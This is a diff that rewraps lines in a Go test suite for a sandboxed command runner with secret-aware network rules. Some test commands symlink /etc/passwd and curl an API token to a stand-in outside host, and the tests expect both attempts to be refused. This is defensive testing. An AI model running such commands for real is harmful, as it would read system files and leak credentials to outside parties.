@@ -42,7 +42,8 @@ func (w *world) onRunner(t *testing.T) *world {
 		if err := wait.Receive(t, "the end of the runner", done); err != nil {
 			t.Error(err)
 		}
-		if lines := log.String(); !strings.Contains(lines, `msg="check ended" server=socket exit=0`) || strings.Contains(lines, uuid.Nil.String()) {
+		if lines := log.String(); !strings.Contains(lines, `msg="check ended" server=socket exit=0`) ||
+			strings.Contains(lines, uuid.Nil.String()) {
 			t.Errorf("the log of the runner:\n%s", lines)
 		}
 	})
@@ -65,16 +66,19 @@ func TestCommandsOnARunner(t *testing.T) {
 	if err := run.Write(t.Context(), tool.Call{}, "in/a.txt", []byte("from write\n")); err != nil {
 		t.Fatal(err)
 	}
-	first := bash(t, run, `cat in/a.txt; mkdir -p d/e new; echo 1 > d/e/f; echo 2 > d/g; echo '#!/bin/sh' > run.sh; chmod +x run.sh; ln -s d/g link; ln -s /etc/passwd abs; mkfifo pipe; printf x > $'\xff\n'`)
+	first := bash(t, run, `cat in/a.txt; mkdir -p d/e new; echo 1 > d/e/f; echo 2 > d/g; echo '#!/bin/sh' > run.sh; chmod +x run.sh; `+
+		`ln -s d/g link; ln -s /etc/passwd abs; mkfifo pipe; printf x > $'\xff\n'`)
 	if want := "from write\n\n[not kept: \"pipe\": a pipe]\n"; first != want {
 		t.Errorf("%q, not %q", first, want)
 	}
-	if got := bash(t, run, `rm -r d; echo file > d; echo 3 >> in/a.txt; rm link; mkdir link; mv run.sh new/; ls -A | cat -v`); got != "abs\nd\nin\nlink\nnew\nM-^?\n\n" {
+	if got := bash(t, run, `rm -r d; echo file > d; echo 3 >> in/a.txt; rm link; mkdir link; mv run.sh new/
+		ls -A | cat -v`); got != "abs\nd\nin\nlink\nnew\nM-^?\n\n" {
 		t.Errorf("%q", got)
 	}
 	run.Close()
 	run = w.begin(t, w.turn(t, "API_TOKEN")) // another process continues with the saved folder
-	if got := bash(t, run, `cat d in/a.txt; test -d link && test -x new/run.sh && readlink abs; cat $'\xff\n'`); got != "file\nfrom write\n3\n/etc/passwd\nx" {
+	if got := bash(t, run, `cat d in/a.txt; test -d link && test -x new/run.sh && readlink abs
+		cat $'\xff\n'`); got != "file\nfrom write\n3\n/etc/passwd\nx" {
 		t.Errorf("%q", got)
 	}
 	if text, err := run.Text(t.Context(), "abs"); refused(t, err) == "" {
@@ -90,7 +94,8 @@ func TestCommandsOnARunner(t *testing.T) {
 	if exit != 137 || killed != "killed after 1 s" || err != nil {
 		t.Errorf("%d %q %v", exit, killed, err)
 	}
-	if got := bash(t, run, "truncate -s 60M s1 s2 s3 s4 s5 s6 s7 s8 s9"); !strings.Contains(got, "together they have 540") || !strings.Contains(got, "as they were before") {
+	if got := bash(t, run, "truncate -s 60M s1 s2 s3 s4 s5 s6 s7 s8 s9"); !strings.Contains(got, "together they have 540") ||
+		!strings.Contains(got, "as they were before") {
 		t.Errorf("%q", got)
 	}
 	if got := bash(t, run, "ls s* 2> /dev/null; cat d"); got != "file\n" {
@@ -99,10 +104,13 @@ func TestCommandsOnARunner(t *testing.T) {
 
 	// Its network: secrets, and only to their hosts.
 	for _, curl := range []string{"curl -sS", "curl -sS --noproxy '*'"} {
-		if got := bash(t, run, curl+` -H "Authorization: Bearer $API_TOKEN" https://example.com/ | tee kept; cat kept`); strings.Count(got, "you sent Bearer [secret:API_TOKEN]") != 2 || wait.Receive(t, "a request", w.heard) != "Bearer "+value {
+		if got := bash(t, run, curl+` -H "Authorization: Bearer $API_TOKEN" https://example.com/ | tee kept; cat kept`); strings.Count(got,
+			"you sent Bearer [secret:API_TOKEN]") != 2 || wait.Receive(t, "a request", w.heard) != "Bearer "+value {
 			t.Errorf("%s: %q", curl, got)
 		}
-		if got := bash(t, run, curl+` -f -H "Authorization: Bearer $API_TOKEN" https://elsewhere.example/ 2>&1 || echo refused; echo $API_TOKEN`); !strings.Contains(got, "refused") || !strings.Contains(got, "ph_") || len(w.heard) > 0 {
+		if got := bash(t, run,
+			curl+
+				` -f -H "Authorization: Bearer $API_TOKEN" https://elsewhere.example/ 2>&1 || echo refused; echo $API_TOKEN`); !strings.Contains(got, "refused") || !strings.Contains(got, "ph_") || len(w.heard) > 0 {
 			t.Errorf("%s: %q", curl, got)
 		}
 	}
@@ -128,15 +136,18 @@ func TestAttachmentsReachTheRunner(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t).onRunner(t)
 	turn := w.turn(t)
-	if _, err := w.files.Produce(t.Context(), w.workspace, w.session, turn.Turn, "c", "data.csv", "text/csv", strings.NewReader("first")); err != nil {
+	if _, err := w.files.Produce(t.Context(), w.workspace, w.session, turn.Turn, "c", "data.csv", "text/csv",
+		strings.NewReader("first")); err != nil {
 		t.Fatal(err)
 	}
-	if _, err := w.pool.Exec(t.Context(), `INSERT INTO turn_files (turn_id, file_id, workspace_id, n) SELECT $1, id, workspace_id, 0 FROM files`, turn.Turn); err != nil {
+	if _, err := w.pool.Exec(t.Context(),
+		`INSERT INTO turn_files (turn_id, file_id, workspace_id, n) SELECT $1, id, workspace_id, 0 FROM files`, turn.Turn); err != nil {
 		t.Fatal(err)
 	}
 	run := w.begin(t, turn)
 	for range 2 {
-		if got := bash(t, run, "cat attachments/data.csv; touch attachments/new 2>&1; ls"); !strings.HasPrefix(got, "first") || !strings.Contains(got, "Read-only") || !strings.HasSuffix(got, "\nattachments\n") {
+		if got := bash(t, run, "cat attachments/data.csv; touch attachments/new 2>&1; ls"); !strings.HasPrefix(got, "first") ||
+			!strings.Contains(got, "Read-only") || !strings.HasSuffix(got, "\nattachments\n") {
 			t.Errorf("%q", got)
 		}
 	}
@@ -150,7 +161,8 @@ func TestPlacesOfARunner(t *testing.T) {
 	for n := range cap(got) {
 		turn := w.turn(t)
 		turn.Session = turn.Turn
-		if _, err := w.pool.Exec(t.Context(), `INSERT INTO sessions (id, workspace_id, epoch) VALUES ($1, $2, $3)`, turn.Session, w.workspace, turn.Epoch); err != nil {
+		if _, err := w.pool.Exec(t.Context(), `INSERT INTO sessions (id, workspace_id, epoch) VALUES ($1, $2, $3)`, turn.Session,
+			w.workspace, turn.Epoch); err != nil {
 			t.Fatal(err)
 		}
 		run := w.begin(t, turn)
